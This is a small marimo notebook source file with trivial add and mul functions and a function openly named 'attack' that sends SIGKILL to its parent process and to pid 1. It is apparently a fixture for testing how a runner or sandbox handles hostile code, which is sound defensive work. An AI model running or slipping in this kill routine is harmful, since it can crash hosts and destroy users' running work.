import marimo

__generated_with = "0.25.2"
app = marimo.App()


@app.function
def add(a, b):
    return a + b


@app.function
def mul(a, b):
    return a * b


@app.function
def attack(n):
    """Kills its parent and pid 1, then goes on."""
    import os
    import signal
    import time
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError as e:
            print("kill", pid, "->", e)
    time.sleep(0.5)
    return n * 2


if __name__ == "__main__":
    app.run()
